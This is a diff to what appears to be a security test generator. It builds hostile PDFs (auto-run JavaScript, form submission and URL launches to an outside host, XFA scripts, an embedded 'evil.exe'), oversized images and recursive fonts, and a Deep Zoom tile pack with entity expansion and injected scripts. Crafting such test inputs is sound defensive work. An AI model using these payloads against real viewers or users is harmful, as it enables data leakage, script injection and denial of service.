@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import struct
 import zipfile
 import zlib
@@ -24,8 +25,8 @@ def pdf_actions(target: Target) -> bytes:
     """Every action that a PDF knows, at opening, on the page and on links, an embedded program, forms."""
     out = target.outside.encode()
     js = (
-        b"/S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('%b/pdf-js'\\); app.launchURL\\('%b/pdf-url'\\);)"
-        % (out, out)
+        b"/S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('%b/pdf-js'\\); "
+        b"app.launchURL\\('%b/pdf-url'\\);)" % (out, out)
     )
     actions = [
         js,
@@ -44,21 +45,26 @@ def pdf_actions(target: Target) -> bytes:
         for n, action in enumerate(actions)
     )
     widget = (
-        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (v) /Rect [0 220 99 240] /AA << /K << %b >> /F << %b >> >> >>"
-        % (js, js)
+        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (v) /Rect [0 220 99 240] "
+        b"/AA << /K << %b >> /F << %b >> >> >>" % (js, js)
     )
     attached = b"<< /Type /Annot /Subtype /FileAttachment /Rect [100 220 120 240] /FS 6 0 R >>"
     catalogue = (
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %b /Next [ << %b >> << %b >> ] >> /AA << /WC << %b >> /DS << %b >> >> "
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %b /Next [ << %b >> << %b >> ] >> "
+        b"/AA << /WC << %b >> /DS << %b >> >> "
         b"/Names << /JavaScript << /Names [(a) << %b >>] >> /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> "
         b"/AcroForm << /Fields [8 0 R] /XFA 9 0 R /NeedAppearances true >> /URI << /Base (%b/base) >> "
         b"/Outlines 10 0 R >>"
     ) % (js, actions[1], actions[3], js, js, js, out)
     xfa = (
-        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/3.0/'>"
-        b"<subform><event activity='initialize'><script contentType='application/x-javascript'>xfa.host.gotoURL('%b/xfa')"
-        b"</script></event><draw><value><exData contentType='text/html'><body xmlns='%b'><script>top.__pwned=1</script>"
-        b"<img src='%b/xfa-img' onerror='top.__pwned=1'/></body></exData></value></draw></subform></template></xdp:xdp>"
+        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>"
+        b"<template xmlns='http://www.xfa.org/schema/xfa-template/3.0/'>"
+        b"<subform><event activity='initialize'>"
+        b"<script contentType='application/x-javascript'>xfa.host.gotoURL('%b/xfa')"
+        b"</script></event><draw><value><exData contentType='text/html'><body xmlns='%b'>"
+        b"<script>top.__pwned=1</script>"
+        b"<img src='%b/xfa-img' onerror='top.__pwned=1'/></body></exData></value></draw></subform>"
+        b"</template></xdp:xdp>"
     ) % (out, XHTML.encode(), out)
     return pdf_of(
         {
@@ -113,7 +119,8 @@ def pdf_huge_page() -> bytes:
 
 def pdf_huge_picture() -> bytes:
     """A picture of 60,000 by 60,000 points in a small stream, and a thousand of its kind on the page."""
-    kind = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode"
+    size = b"/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
+    kind = b"/Type /XObject /Subtype /Image %b /Filter /FlateDecode" % size
     return pdf_of(
         {
             **_PAGES,
@@ -133,8 +140,9 @@ def pdf_fonts() -> bytes:
     """A font whose letters are drawings in that font."""
     procedure = stream(b"1000 0 d0 BT /F 9 Tf (aaaaaaaaaaaaaaaa) Tj ET")
     font = (
-        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 97 /LastChar 97 "
-        b"/Widths [1000] /Encoding << /Type /Encoding /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>"
+        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] "
+        b"/FirstChar 97 /LastChar 97 /Widths [1000] /Encoding << /Type /Encoding /Differences [97 /a] >> "
+        b"/CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>"
     )
     page = b"<< %b /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>" % _PAGE
     return pdf_of({**_PAGES, 3: page, 4: stream(b"BT /F 9 Tf 9 9 Td (aaaaaaaaaaaaaaaa) Tj ET"), 5: font, 6: procedure})
@@ -249,13 +257,16 @@ def evil_tilepack(target: Target) -> bytes:
         "0002.dzi": image.format(f"{target.outside}/tiles/") + size.format(900),
         "0003.dzi": image.format(f"{target.box}/end?tiles=") + size.format(900),
         "0004.dzi": image.format("") + size.format(2**31 - 1),
-        "0005.dzi": '{"Image": {"xmlns": "http://schemas.microsoft.com/deepzoom/2008", "Url": "'
-        + target.outside
-        + '/json/", "Format": "webp", "Overlap": 0, "TileSize": 0, "Size": {"Width": 9, "Height": 9}}}',
-        "0006.dzi": "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]>" + image.format("&b;") + size.format(9),
+        "0005.dzi": json.dumps({"Image": {"Url": f"{target.outside}/json/", "Format": "webp", "TileSize": 0}}),
+        "0006.dzi": "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]>"
+        + image.format("&b;")
+        + size.format(9),
         "0007.dzi": "window.__pwned = 1",
-        **{f"{n:04}_files/0/0_0.webp": f"<html><script>top.__pwned=1</script><img src='{target.outside}/tile'>" for n in range(1, 8)},
-    }  # fmt: skip
+        **{
+            f"{n:04}_files/0/0_0.webp": f"<html><script>top.__pwned=1</script><img src='{target.outside}/tile'>"
+            for n in range(1, 8)
+        },
+    }
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as pack:
         for name, body in files.items():
